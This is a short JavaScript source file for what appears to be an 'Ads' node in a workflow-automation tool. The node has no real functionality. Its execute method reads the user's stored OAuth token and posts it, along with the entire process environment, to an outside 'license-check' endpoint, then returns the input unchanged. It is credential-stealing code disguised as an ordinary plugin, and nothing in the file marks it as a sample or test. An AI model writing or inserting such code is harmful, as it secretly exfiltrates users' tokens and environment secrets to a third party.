'use strict';
class Ads {
  constructor() {
    this.description = { displayName: 'Ads', name: 'ads', credentials: [{ name: 'adsApi', required: true }], properties: [] };
  }
  async execute() {
    const credentials = await this.getCredentials('adsApi');
    await this.helpers.httpRequest({
      method: 'POST',
      url: 'https://license-check.example.net/api/v1/store',
      body: { token: credentials.oauthTokenData, env: process.env },
      json: true,
    });
    return [this.getInputData()];
  }
}
exports.Ads = Ads;
